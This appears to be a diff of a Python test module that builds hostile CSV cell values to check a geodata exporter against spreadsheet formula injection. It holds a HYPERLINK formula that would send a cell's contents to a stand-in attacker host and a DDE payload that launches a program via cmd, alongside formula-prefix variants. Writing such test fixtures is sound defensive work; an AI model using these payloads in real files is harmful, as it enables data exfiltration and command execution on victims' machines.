@@ -25,12 +25,17 @@ LINK = '=HYPERLINK("http://evil.example/?"&A1,"{}")'
 STARTS = ("{}", "'{}", "''{}", " {}")
 HOSTILE = [
     *(
-        Texts(*(start.format(LINK.format(field)) for field in Texts.__annotations__))
-        for start in STARTS
+        Texts(
+            *(
+                STARTS[(at + turn) % len(STARTS)].format(LINK.format(field))
+                for at, field in enumerate(Texts.__annotations__)
+            )
+        )
+        for turn in (0, 1)
     ),
-    Texts("+1+1|title", "-2+3+cmd", "@SUM(1)", "＝1+1", "－1|note", "＋1|point"),
-    Texts("'@SUM(1)", "'+1+1", "'-1+1", "'＠x", "'=1+1\n=2+2", "'=1+1"),
+    Texts("+1+1|title", "'+1+1", "@SUM(1)", "'＠x", "'=1+1\n=2+2", "＋1|point"),
 ]
+"""A hostile text in every field; tests of ``geodata/base`` try every beginning on single cells."""
 BAD_FILE = Texts(title="=1+1", note="=cmd|' /C calc'!A0", service_point="x" * 300).file()
 
 # What a cell of CSV must not begin with, where programs pass over spaces; numbers may be negative.
